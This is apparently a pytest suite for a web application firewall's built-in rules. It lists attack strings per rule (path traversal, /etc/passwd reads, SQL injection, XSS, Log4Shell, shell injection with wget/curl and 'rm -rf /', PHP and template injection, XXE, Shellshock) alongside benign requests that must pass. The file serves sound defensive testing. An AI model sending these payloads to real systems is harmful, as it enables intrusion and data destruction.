"""Each built-in rule fires on attacks of its kind in every disguise listed here, and no rule on ordinary requests.

Long because attacks and ordinary requests are written out, one a line.
"""

from __future__ import annotations

import time
from urllib.parse import quote

import pytest

from velocity_edge.config.middlewares.waf import WafRules
from velocity_edge.config.middlewares.waf_core import CORE
from workers.body import Body
from workers.http import Request, Response, plain
from workers.measures import Measures
from workers.middleware.waf import Firewall

FORM = (b"content-type", b"application/x-www-form-urlencoded")
JSON = (b"content-type", b"application/json")


async def hits(
    path: bytes = b"/", query: bytes = b"", body: bytes = b"", headers: tuple[tuple[bytes, bytes], ...] = ()
) -> set[str]:
    """Return the built-in rules that the request matches."""
    measures = Measures()
    firewall = Firewall(WafRules(core_action="log"), measures, 1 << 20)
    arrived = Body(lambda _: None)
    arrived.feed(body, True)
    target = path + (b"?" + query if query else b"")
    fields = headers if not body or any(name == b"content-type" for name, _ in headers) else (*headers, FORM)
    answer = firewall.wrap(lambda _: plain(200))(Request(b"POST", b"a.test", target, fields, body=arrived))
    if not isinstance(answer, Response):
        answer = await answer  # type: ignore[misc]
    assert isinstance(answer, Response)
    assert answer.status == 200
    return {rule.id for rule in CORE if measures.counter("velocity_waf_total", (rule.id, "log")).value}


ATTACKS = {
    "traversal": [
        "/../etc/x",
        "/a/..%2f..%2fx",
        "/%2e%2e/x",
        "/a/%252e%252e%252fx",
        "/..\\x",
        "/..%5cx",
        "/a/..;/manager",
        "/%c0%ae%c0%ae/x",
        "/a/..",
        "/x?file=../../x",
        "/x?file=..%2F..%2Fx",
        "/x?p=a/../../b",
    ],
    "system-files": [
        "/x?f=/etc/passwd",
        "/etc/shadow",
        "/x?f=%2fetc%2fpasswd%00.png",
        "/x?f=/proc/self/environ",
        "/x?f=c:\\windows\\win.ini",
    ],
    "hidden-files": ["/.git/config", "/a/.svn/entries", "/.env", "/.htpasswd", "/wp-config.php.bak"],
    "null-byte": ["/x%00.php", "/x?f=a%00", "/x?f=%2500"],
    "response-splitting": ["/x?u=a%0d%0aSet-Cookie:%20a=b", "/x%0aLocation:%20http://x", "/x?u=%0D%0AHTTP/1.1%20200"],
    "sql-injection": [
        "/x?id=1+union+select+password+from+users",
        "/x?id=1/**/UNION/**/ALL/**/SELECT/**/1,2",
        "/x?id=1'+or+1=1--",
        "/x?id=1%27%20OR%20%271%27=%271",
        "/x?id=1'or'1'='1",
        "/x?user=admin'--",
        "/x?user=admin%27%23",
        "/x?id=1;drop+table+users",
        "/x?id=1'+and+sleep(5)--",
        "/x?id=pg_sleep(5)",
        "/x?id=1+or+1=1--",
        "/x?q=(select+1+from+information_schema.tables)",
        "/x?id=1;waitfor+delay+'0:0:5'",
        "/x?id=1+union(select(1))",
        "/x?q=1'+into+outfile+'/tmp/x",
        "/x?id=extractvalue(1,2)",
        "/x?id=%2527%2520or%25201%253d1--",
    ],
    "cross-site-scripting": [
        "/x?q=<script>alert(1)</script>",
        "/x?q=%3Cscript%3E",
        "/x?q=<ScRiPt+src=//x>",
        "/x?q=<img+src=x+onerror=alert(1)>",
        "/x?q=<svg/onload=alert(1)>",
        "/x?u=javascript:alert(1)",
        "/x?u=JaVaScRiPt%3Aalert(1)",
        "/x?q=&lt;script&gt;",
        "/x?q=%2526lt%253Bscript%2526gt%253B",
        '/x?q="+onfocus="alert(1)',
        "/x?q=<iframe+src=//evil>",
        "/x?q=document.cookie",
        "/<script>alert(1)</script>",
        "/x?u=data:text/html,x",
    ],
    "log4shell": [
        "/x?q=${jndi:ldap://x/a}",
        "/x?q=$%7Bjndi:rmi://x%7D",
        "/x?q=${${lower:j}ndi:ldap://x}",
        "/x?q=${${::-j}${::-n}di:x}",
        "/${jndi:dns://x}",
        "/x?q=${ jndi:ldap://x}",
        "/x?q=${j${k8s:k5:-ND}i:ldap://x}",
        "/x?q=${env:AWS_SECRET:-${x}}",
    ],
    "shell-injection": [
        "/x?q=;wget+http://x/y",
        "/x?q=|curl+-s+x",
        "/x?q=`id`",
        "/x?q=$(whoami)",
        "/x?q=1%26%26cat+/etc/hosts",
        "/x?q=;/bin/bash+-c+x",
        "/x?q=a;cat${IFS}/x",
        "/x?q=;+rm+-rf+/",
    ],
    "php-injection": [
        "/x?p=php://input",
        "/x?p=php://filter/convert.base64-encode/resource=x",
        "/x?q=<?php+phpinfo();",
        "/x?q=system('id')",
        "/x?q=eval(base64_decode(x))",
        "/x?allow_url_include=1",
    ],
    "template-injection": [
        "/x?q={{7*7}}",
        "/x?q={{config}}",
        "/x?q={{''.__class__.__mro__}}",
        "/x?q=#{7*7}",
        "/x?q={{request.application}}",
    ],
    "java-injection": [
        "/x?class.module.classLoader.resources=1",
        "/x?q=rO0ABXNy",
        "/x?q=%25{(%23a=1)}",
        "/x?q=java.lang.Runtime",
    ],
    "xml-entities": [],
    "shellshock": ["/x?q=()+{+:;};+x"],
    "scanner": [],
}


def test_every_rule_has_attacks() -> None:
    assert set(ATTACKS) == {rule.id for rule in CORE}


@pytest.mark.parametrize(
    ("rule", "target"), [(rule, target) for rule, targets in ATTACKS.items() for target in targets]
)
async def test_each_rule_fires_on_its_attacks(rule: str, target: str) -> None:
    path, _, query = target.encode().partition(b"?")
    assert rule in await hits(path, query)
    if query and any(one.id == rule and one.match.field == "body" for one in CORE):
        assert rule in await hits(body=query)


async def test_attacks_in_headers_and_bodies() -> None:
    for value in (b"() { :;}; /bin/bash -c id", b"() { _; } >_[$($())] { id; }"):
        assert await hits(headers=((b"accept", b"text/html"), (b"user-agent", value))) == {"shellshock"}
    assert await hits(headers=((b"x-api-version", b"${jndi:ldap://x}"),)) == {"log4shell"}
    assert await hits(headers=((b"user-agent", b"sqlmap/1.7"),)) == {"scanner"}
    xml = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/hostname">]><a>&x;</a>'
    assert "xml-entities" in await hits(body=xml, headers=((b"content-type", b"application/xml"),))
    assert "sql-injection" in await hits(body=b'{"user":"admin\' or 1=1--"}', headers=(JSON,))


BROWSER = (
    (
        b"user-agent",
        b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0",
    ),
    (b"accept", b"text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
    (b"accept-language", b"en-GB,en;q=0.9,de;q=0.8"),
    (b"sec-ch-ua", b'"Not/A)Brand";v="8", "Chromium";v="126", "Google Chrome";v="126"'),
    (b"cookie", b'session=eyJhbGciOiJIUzI1NiJ9.e30.x-_; prefs={"theme":"dark","lang":"en"}; _ga=GA1.2.1.1; cart=a|b;c'),
    (b"referer", b"https://www.example.com/search?q=select+a+union&from=home"),
)

BENIGN = [
    "/",
    "/index.html",
    "/static/app.3f2a.js",
    "/a%20b/c%2Bd.txt",
    "/blog/2026/01/how-to-drop-a-table-in-sql",
    "/user/o'brien",
    "/files/report..final.pdf",
    "/v1/users/42?fields=id,name&sort=-created",
    "/search?q=rock+%26+roll",
    "/search?q=select+your+plan",
    "/search?q=union+station+hotels",
    "/search?q=O%27Reilly+and+sons",
    "/search?q=1+or+2+rooms",
    "/search?q=how+to+use+cat+and+less",
    "/search?q=drop+shipping+%26+table+lamps",
    "/search?q=c%2B%2B+x+%3D+1",
    "/search?q=a+%3C+b+and+c+%3E+d",
    "/search?q=%22exact+phrase%22",
    "/search?q=it's+5+o'clock",
    "/search?q=what+is+etc",
    "/search?q=java+language+runtime",
    "/search?q=order+by+date",
    "/search?q=from+paris+to+rome",
    "/search?q=the+script+of+the+film",
    "/search?q=on+sale+now",
    "/search?q=price+%3E%3D+10%3B+sort",
    "/search?q=50%25+off",
    "/search?q=100%",
    "/search?q=%E4%BD%A0%E5%A5%BD",
    "/search?q=caf%C3%A9",
    "/login?next=%2Faccount%2Fsettings%3Ftab%3D1",
    "/oauth?redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&scope=openid+profile&state=abc",
    "/img?url=https://cdn.example.com/a.png&w=200",
    "/maps?ll=48.1,11.5&z=12",
    '/api?filter={"a":{"$gt":5}}',
    "/api?ids[]=1&ids[]=2",
    "/g?e=x*y/2+(3-1)",
    "/.well-known/acme-challenge/x",
    "/.well-known/openid-configuration",
    "/docs/git/config",
    "/a/...",
    "/a.b/..c",
    "/price?v=$19.99",
    "/t?x=${name}",
    "/t?x={{name}}",
    "/p?tel=%2B49+89+123;ext=5",
    "/x?msg=let's+meet;+bring+wine",
    "/x?sh=1&python=3.12",
    "/x?d=2026-01-01T00:00:00%2B02:00",
    "/x?b64=SGVsbG8gd29ybGQ/Pz8+Pg==",
    "/x?q=update+your+profile",
    "/x?q=delete+account",
    "/x?q=insert+coin",
    "/x?q=create+table+decorations",
    "/x?onerror=retry",
    "/x?q=javascript+tutorial",
    "/x?q=javascript%3A+the+good+parts",
    "/x?q=sleep+(noun)",
    "/x?q=select+all+from+the+list",
    "/x?q=tom+%26%26+jerry",
    "/x?a=1&b=2&&c=3",
    "/x?utm_source=news&utm_campaign=spring--sale",
    "/x?q=--help",
    "/x?q=%23hashtag",
    "/x?q='quoted'",
    "/x?q=a|b|c",
    "/x?q=math:+1+%3D+1",
    "/x?q=a+and+b=c",
    "/x?data=text",
]


@pytest.mark.parametrize("target", BENIGN)
async def test_ordinary_requests_pass(target: str) -> None:
    path, _, query = target.encode().partition(b"?")
    assert await hits(path, query, headers=BROWSER) == set()
    if query:
        assert await hits(body=query, headers=(*BROWSER, FORM)) == set()


TEXTS = [
    b'{"title":"It\'s a deal; select one of 3 plans","price":19.99,"html":"<p>Hello <b>you</b> &amp; me</p>"}',
    b'{"query":"query($id: ID!) { user(id: $id) { name email } }","variables":{"id":"42"}}',
    b"name=Jos%C3%A9+O%27Neil&comment=I+said+%22stop%22%2C+and+left.%0D%0ASee+you+at+5%3A30%3B+or+not%3F",
    b"<?xml version='1.0'?><!DOCTYPE note><order id='1'><item>a &lt; b</item></order>",
    b"Dear all,\n\nplease drop me a line; I will update the table from home.\n- Ann (or Bob)\n",
    b'[{"op":"replace","path":"/a/b","value":"c:\\\\temp\\\\file.txt"},{"op":"test","path":"/x","value":null}]',
]


@pytest.mark.parametrize("body", TEXTS)
async def test_ordinary_bodies_pass(body: bytes) -> None:
    kind = JSON if body[:1] in b"[{" else (b"content-type", b"text/xml") if body.startswith(b"<") else FORM
    assert await hits(body=body, headers=(*BROWSER, kind)) == set()


async def test_no_text_costs_much() -> None:
    """The engine is linear, and its automaton stays small: 16 KiB of anything take milliseconds."""
    pieces = [
        "<a ",
        "on",
        "' or ",
        "select ",
        "union ",
        "${",
        "/*",
        "(()",
        "{{",
        "'",
        '"',
        " from ",
        "() {",
        "x",
        " ",
        "../",
        "<!entity ",
    ]
    for first in range(len(pieces)):
        text = "".join(pieces[(first * n + n // 7) % len(pieces)] for n in range(8000))[:16_000]
        began = time.process_time()
        await hits(query=quote(text).encode()[:16_000], body=text.encode())
        assert time.process_time() - began < 1.0
